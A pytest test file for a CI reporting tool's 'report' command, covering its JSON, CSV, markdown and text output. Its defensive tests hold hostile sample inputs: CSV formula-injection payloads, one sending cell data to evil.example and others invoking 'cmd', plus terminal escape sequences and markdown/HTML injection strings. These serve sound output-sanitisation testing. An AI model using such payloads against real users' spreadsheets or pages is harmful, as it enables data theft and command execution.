"""``buildradiator report`` end to end: a backfilled demo history, every format."""

from __future__ import annotations

import argparse
import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from buildradiator.cli import report
from buildradiator.clock import FakeClock
from buildradiator.history import History
from buildradiator.model import Pipeline
from buildradiator.simulator.backfill import backfill

NOW = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def history_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("report") / "history.sqlite"
    with History.open(path, clock=FakeClock(NOW)) as history:
        pipelines = [
            Pipeline(source="github", key="acme/shop:ci.yml", name="shop", branch="main"),
            Pipeline(source="jenkins", key="monolith", name="monolith", branch="main"),
        ]
        backfill(history, pipelines, now=NOW, days=30)
    return path


def run(path: Path, fmt: str, capsys: pytest.CaptureFixture[str], since: str = "30d") -> str:
    args = argparse.Namespace(since=since, report_format=fmt, history=path, tz="UTC")
    assert report.run(args, now=NOW) == 0
    return capsys.readouterr().out


def test_json_has_stable_keys_and_every_estate_key_is_measured_and_banded(
    history_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    doc = json.loads(run(history_file, "json", capsys))
    assert doc["schema"] == 1 and doc["windows"] == [7, 30]
    assert all(list(f) == list(report.FIELDS) for f in doc["facts"])
    estate = {(f["key"], f["window_days"]): f for f in doc["facts"] if f["scope"] == "estate"}
    for key in ("deploy_frequency", "lead_time", "change_failure_rate", "time_to_restore"):
        assert estate[(key, 30)]["value"] is not None and estate[(key, 30)]["band"], key
    for key in ("queue_wait", "commits_per_build", "gate_hold", "restore_main", "restore_service"):
        assert estate[(key, 30)]["value"], key
    assert estate[("oldest_undeployed", 0)]["value"] > 0
    assert estate[("stage_time", 30)]["value"] is None  # not in history: said, not invented


def test_text_csv_and_markdown(history_file: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = run(history_file, "text", capsys)
    assert "Deployment frequency" in text and "Release gate on HOLD" in text
    rows = list(csv.DictReader(io.StringIO(run(history_file, "csv", capsys))))
    assert rows and set(rows[0]) == set(report.FIELDS)
    markdown = run(history_file, "markdown", capsys, since="2w").splitlines()
    assert markdown[0].startswith("| Measure |") and markdown[1].startswith("|---")
    assert all(line.count("|") >= 10 for line in markdown[2:])
    assert any("| 14d |" in line for line in markdown)


@pytest.mark.parametrize("since", ["0d", "soon", "99999d"])
def test_a_bad_window_is_a_usage_error(
    since: str, history_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = argparse.Namespace(since=since, report_format="text", history=history_file, tz=None)
    assert report.run(args, now=NOW) == 2
    assert "--since" in capsys.readouterr().err


def test_no_history_file_is_said_in_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = argparse.Namespace(
        since="30d", report_format="text", history=tmp_path / "none.sqlite", tz=None
    )
    assert report.run(args, now=NOW) == 2
    assert "no history" in capsys.readouterr().err


def test_the_parser_reads_the_options() -> None:
    parser = argparse.ArgumentParser()
    report.add_parser(parser.add_subparsers(dest="command"))
    args = parser.parse_args(["report", "--since", "7d", "--format", "csv"])
    assert (args.since, args.report_format) == ("7d", "csv")


@pytest.mark.parametrize("fmt", ["text", "markdown", "csv", "json"])
def test_names_from_ci_never_reach_the_terminal_with_escapes(
    fmt: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "history.sqlite"
    with History.open(path, clock=FakeClock(NOW)) as history:
        history._db.execute(
            "INSERT INTO deploys (source, service, environment, deploy_key, commit_sha, state, at)"
            " VALUES ('gh', ?, 'production', '1', 'abc', 'succeeded', ?)",
            ("shop\x1b]8;;http://evil\x07\x1b[2J", NOW.timestamp() - 3600),
        )
    out = run(path, fmt, capsys)
    assert "\x1b" not in out and "\x07" not in out and "\\u001b" not in out
    assert "shop" in out


def hostile_history(tmp_path: Path, service: str) -> Path:
    """A history whose one production deploy names ``service``, as CI or a deploy tool spelt it."""
    path = tmp_path / "history.sqlite"
    with History.open(path, clock=FakeClock(NOW)) as history:
        history._db.execute(
            "INSERT INTO deploys (source, service, environment, deploy_key, commit_sha, state, at)"
            " VALUES ('gh', ?, 'production', '1', 'abc', 'succeeded', ?)",
            (service, NOW.timestamp() - 3600),
        )
    return path


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"shop")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


@pytest.mark.parametrize("service", FORMULAS)
def test_a_name_from_ci_is_never_a_formula_in_the_csv_sheet(
    service: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The CSV is "for a sheet": a spreadsheet runs a cell that starts with = + - @ (or a tab or
    a return before one) as a formula. Such a text cell is written with a leading apostrophe,
    which the sheet shows as text (OWASP's advice for CSV injection)."""
    out = run(hostile_history(tmp_path, service), "csv", capsys)
    rows = list(csv.DictReader(io.StringIO(out)))
    scopes = [r["scope"] for r in rows if r["scope"] not in ("estate",)]
    assert scopes, out
    for row in rows:
        for name, value in row.items():
            start = value.lstrip(" ")[:1]
            assert not start or start not in "=+-@\t\r" or _number(value), (name, value)
    assert any(s.startswith("'") and s[1:].lstrip().startswith(service.strip()[:1]) for s in scopes)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    "service",
    [
        "[shop](http://evil.example/login)",
        "![pixel](http://tracker.example/p.gif)",
        "<img src=x onerror=alert(1)>",
        "`code` *shouting* _lean_ <b>bold</b> &amp;",
    ],
)
def test_a_name_from_ci_is_never_markdown_or_html_on_the_wiki_page(
    service: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every character Markdown or HTML could read is escaped: the page shows the name as
    written, never a link, an image, a tag or emphasis."""
    out = run(hostile_history(tmp_path, service), "markdown", capsys)
    line = next(line for line in out.splitlines() if "production" in line)
    for mark in "[]()<>!`*_&":
        # every one of them escaped with a backslash, wherever it stands in the name
        assert all(line[i - 1] == "\\" for i, c in enumerate(line) if c == mark), (mark, line)
